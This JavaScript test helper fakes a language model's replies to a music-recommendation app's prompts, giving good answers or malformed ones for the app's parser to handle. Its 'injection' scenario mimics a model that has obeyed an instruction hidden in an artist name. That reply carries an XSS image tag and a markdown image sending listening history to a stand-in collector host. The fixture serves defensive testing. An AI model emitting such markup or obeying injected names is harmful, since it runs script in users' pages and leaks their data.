// What a stand-in model says: it reads the rows of our prompts (assets/prompts) as a model would, and answers well, or in one of
// the ways in which models go wrong.

// Rows under CANDIDATES or PICKS, whose first column is an id: [{ id, artist }].
export function rows_of(text) {
  const from = Math.max(text.lastIndexOf('\nCANDIDATES\n'), text.lastIndexOf('\nPICKS\n'), 0);
  const rows = text.slice(from).split('\n').map((line) => line.split('\t')).filter(([id, artist]) => /^[a-z]+\d+$/.test(id) && artist);
  return rows.map(([id, artist]) => ({ id, artist }));
}

// Backwards through the rows: an order that is not the one asked, and the same for the same question.
const best_first = (rows) => rows.map(({ id }) => id).reverse();

// Which question is asked is read from the answer that it wants.
export function good_answer(text) {
  const rows = rows_of(text);
  if (text.includes('{"ranking"')) return { ranking: best_first(rows) };
  if (text.includes('{"reasons"')) return { reasons: rows.map(({ id, artist }) => ({ id, why: `${artist} shares its mood with what you play.` })) };
  if (text.includes('{"picks"')) {
    return { picks: ['Mogwai', 'Grouper', 'Nils Frahm', 'The Sixteen Invented Herons'].map((artist) => ({ artist, why: 'Quiet and wide.' })) };
  }
  if (text.includes('{"winner"')) return { winner: 'A', why: 'Its artists lie nearer to the taste.' };
  if (text.includes('{"novelty"')) {
    return { novelty: 0.7, popularity: -1, unheard_only: true, more: ['ambient'], less: ['pop'], artists: [] };
  }
  return { words: 'ok' };
}

const twisted = {
  'fenced': (answer) => `\`\`\`json\n${JSON.stringify(answer)}\n\`\`\``,
  'prose': (answer) => `Here is what I would choose for this listener:\n\n${JSON.stringify(answer)}\n\nEnjoy!`,
  'unknown-ids': ({ ranking }) => JSON.stringify({ ranking: ['zz98', ...ranking, 'zz99'] }),
  'duplicate-ids': ({ ranking }) => JSON.stringify({ ranking: [...ranking.slice(0, 3), ...ranking] }),
  'missing-ids': ({ ranking }) => JSON.stringify({ ranking: ranking.slice(0, 4) }),
  'titles': (answer, rows) => JSON.stringify({ ranking: rows.map(({ artist }) => artist).reverse() }),
  'truncated': (answer) => JSON.stringify(answer).slice(0, -9),
  'empty': () => '',
  // The model "obeys" a name: prose, markup and a wish to load something in place of an order.
  'injection': (answer, rows) => `<img src=x onerror="alert(1)">![p](https://collector.example/?q=history) As told, only ${rows[0]?.id}:\n` +
    JSON.stringify({ ranking: rows.slice(0, 1).map(({ id }) => id) }),
};

// The text of a reply under a scenario that is about what is said; under any other, the good one.
export function say(scenario, prompt) {
  const answer = good_answer(prompt);
  const twist = twisted[scenario];
  const applies = twist && (answer.ranking || ['fenced', 'prose', 'truncated', 'empty', 'injection'].includes(scenario));
  return applies ? twist(answer, rows_of(prompt)) : JSON.stringify(answer);
}
